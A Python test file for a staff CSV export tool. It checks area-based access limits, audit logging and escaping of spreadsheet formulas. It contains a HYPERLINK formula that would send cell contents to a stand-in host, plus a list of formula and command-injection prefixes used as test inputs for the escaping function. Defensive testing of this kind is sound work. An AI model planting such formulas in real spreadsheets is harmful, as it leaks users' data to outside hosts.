"""Tables for spreadsheets: nothing in them computes, nothing is in them that the member of staff may not see."""

import csv
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pymongo.database import Database
from pymongo.errors import AutoReconnect

from chassis.settings import Settings
from contracts.actor import STAFF, Grant, Role
from contracts.commands import Meta, Outcome
from contracts.commands.hours import ReadHoursYear
from contracts.events.masters import AreaPublished, MemberPublished
from contracts.events.tickets import TicketAccepted, TicketAssigned
from gateway.exports import hours_table, tables, verb
from gateway.exports.cells import ACTING, cell, neutral
from gateway.exports.verb import operate
from gateway.identity.accounts import Accounts, NewAccount
from tests.builders import (
    AREA_PATH,
    COMMUNITY,
    MEMBER_ID,
    a_member_snapshot,
    a_ticket_holder,
    a_ticket_snapshot,
    an_area_snapshot,
    an_envelope,
    some_terms,
)

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"马师傅")'


@pytest.fixture
def staff(db: Database[Any]) -> Accounts:
    accounts = Accounts(db["accounts"])
    for login, role, area in (
        ("secretary", Role.SECRETARY, None),
        ("elsewhere", Role.SECRETARY, "another-grid"),
        ("resident", Role.RESIDENT, None),
    ):
        accounts.open(NewAccount(community_id=COMMUNITY, login=login, grants=(Grant(role, area),)))
    return accounts


def exported(settings: Settings, out: Path, what: str, login: str = "secretary", *more: str) -> list[list[str]]:
    assert operate(settings, [what, "--as", login, "--out", str(out), *more]) == 0
    assert out.stat().st_mode & 0o777 == 0o600
    with out.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))[1:]


@pytest.fixture
def told(seen: Any) -> None:
    crew = (a_ticket_holder(display_name=FORMULA),)
    seen(
        an_envelope(AreaPublished(), an_area_snapshot(id=AREA_PATH[-1], path=AREA_PATH), 1),
        an_envelope(MemberPublished(), a_member_snapshot(display_name=FORMULA, home_area=AREA_PATH[-1]), 1),
        an_envelope(TicketAccepted(terms=some_terms()), a_ticket_snapshot(), 1),
        an_envelope(TicketAssigned(assignment_ids=("x",), lead=MEMBER_ID), a_ticket_snapshot(holders=crew), 2),
    )


@pytest.mark.usefixtures("staff")
def test_a_year_of_hours_names_nobody_by_a_formula(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[tuple[ReadHoursYear, Meta]] = []
    row = {"external_no": "V1", "display_name": FORMULA, "employment": "volunteer", "item": None, "number": None}
    row |= {"day": "2026-11-21", "times": "12:00-13:35", "area": "sll-g1", "team_id": None, "minutes": 95, "grade": 3}
    pages = {None: ("more", 0), "more": (None, 2)}

    def answer(_: Any, command: ReadHoursYear, meta: Meta) -> Outcome:
        asked.append((command, meta))
        following, count = pages[command.cursor]
        unnamed = {"count": count, "minutes": 60 * count}
        return Outcome(
            {"unit": "石榴里", "rows": [{**row, "state": "recorded"}], "next": following, "unnamed": unnamed}
        )

    for name, kept in (("call", answer), ("start", lambda _: None), ("stop", lambda _: None)):
        monkeypatch.setattr(verb.RpcClient, name, kept)
    table = exported(settings, tmp_path / "hours.csv", "hours", "secretary", "--year", "2026")
    assert [line[1] for line in table] == ["'" + FORMULA, "'" + FORMULA, hours_table.UNNAMED]
    assert [line[8] for line in table] == ["1.58", "1.58", "2.0"]
    assert [command.cursor for command, _ in asked] == [None, "more"]
    assert asked[0][0].year == 2026
    assert asked[0][1].actor.has(STAFF)
    for wrong in (["hours"], ["orders", "--year", "2026"], ["workload", "--year", "2026", "--status", "closed"]):
        with pytest.raises(SystemExit):
            operate(settings, [*wrong, "--as", "secretary", "--out", str(tmp_path / "no.csv")])


@pytest.mark.usefixtures("told", "staff")
def test_staff_get_their_areas_and_nobody_else_anything(settings: Settings, tmp_path: Path) -> None:
    (order,) = exported(settings, tmp_path / "orders.csv", "orders")
    assert "'" + FORMULA in order
    (member,) = exported(settings, tmp_path / "members.csv", "members")
    assert "'" + FORMULA in member
    assert exported(settings, tmp_path / "none.csv", "orders", "elsewhere") == []
    assert exported(settings, tmp_path / "nobody.csv", "members", "elsewhere") == []
    assert exported(settings, tmp_path / "closed.csv", "orders", "secretary", "--status", "closed") == []
    for login in ("resident", "unknown"):
        assert operate(settings, ["orders", "--as", login, "--out", str(tmp_path / "no.csv")]) == 1
    assert not (tmp_path / "no.csv").exists()


@pytest.mark.usefixtures("told", "staff")
def test_no_file_is_written_over_and_every_export_is_on_record(
    settings: Settings, db: Database[Any], tmp_path: Path
) -> None:
    out = tmp_path / "orders.csv"
    exported(settings, out, "orders")
    assert operate(settings, ["orders", "--as", "secretary", "--out", str(out)]) == 1
    (row,) = db["operator_log"].find()
    assert (row["did"], row["rows"]) == ("export.orders", 1)


@pytest.mark.parametrize("text", ["=1+1", "+86", "-1", "@SUM(A1)", "\t=1", "\u200b=1", " =1", "＝1", "%0A", "|cmd"])
def test_what_a_spreadsheet_would_compute_is_text(text: str) -> None:
    assert neutral(text) == "'" + text


@pytest.mark.parametrize("text", ["马迪娜·阿德力", "ئايگۈل", "3=3", "a@b", "", "何姐", "NC-261121-0042"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text


@pytest.mark.usefixtures("staff", "told")
def test_an_area_that_does_not_exist_is_no_empty_table(
    settings: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "table.csv"
    assert operate(settings, ["orders", "--as", "secretary", "--out", str(out), "--area", "nowhere"]) == 1
    assert "there is no area nowhere" in capsys.readouterr().err
    assert not out.exists()


@pytest.mark.usefixtures("staff", "told")
def test_a_table_that_broke_off_is_not_left(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_anything: object) -> Any:
        yield ["a row"]
        raise AutoReconnect("the database went away")

    monkeypatch.setattr(tables, "orders", broken)
    with pytest.raises(AutoReconnect):
        operate(settings, ["orders", "--as", "secretary", "--out", str(tmp_path / "table.csv")])
    assert list(tmp_path.iterdir()) == []


def test_numbers_stay_numbers() -> None:
    assert [cell(value) for value in (-3, 2.5, None, True, ["=a", "b"])] == ["-3", "2.5", "", "是 yes", "'=a; b"]


@given(st.text())
def test_no_text_whatever_begins_a_formula(text: str) -> None:
    assert neutral(text)[:1] not in ACTING
    assert neutral(text).lstrip("'").replace("\0", "") in (text.replace("\0", "").lstrip("'"), text.replace("\0", ""))


@pytest.mark.usefixtures("told", "staff")
def test_an_export_that_breaks_off_is_on_record_too(
    settings: Settings, db: Database[Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What was written may have been read."""

    def dies(*_: Any) -> int:
        raise KeyboardInterrupt

    monkeypatch.setattr(verb.cells, "write", dies)
    with pytest.raises(KeyboardInterrupt):
        operate(settings, ["orders", "--as", "secretary", "--out", str(tmp_path / "orders.csv")])
    assert [(row["did"], row["rows"]) for row in db["operator_log"].find()] == [("export.orders", None)]


@pytest.mark.usefixtures("told", "staff")
@pytest.mark.parametrize("option", [("--area", "another-grid"), ("--status", "closed")])
def test_what_would_narrow_nothing_is_refused(settings: Settings, tmp_path: Path, option: tuple[str, str]) -> None:
    """Whoever asks for the members of one grid must not get those of all."""
    with pytest.raises(SystemExit):
        operate(settings, ["members", "--as", "secretary", "--out", str(tmp_path / "members.csv"), *option])
    assert not (tmp_path / "members.csv").exists()
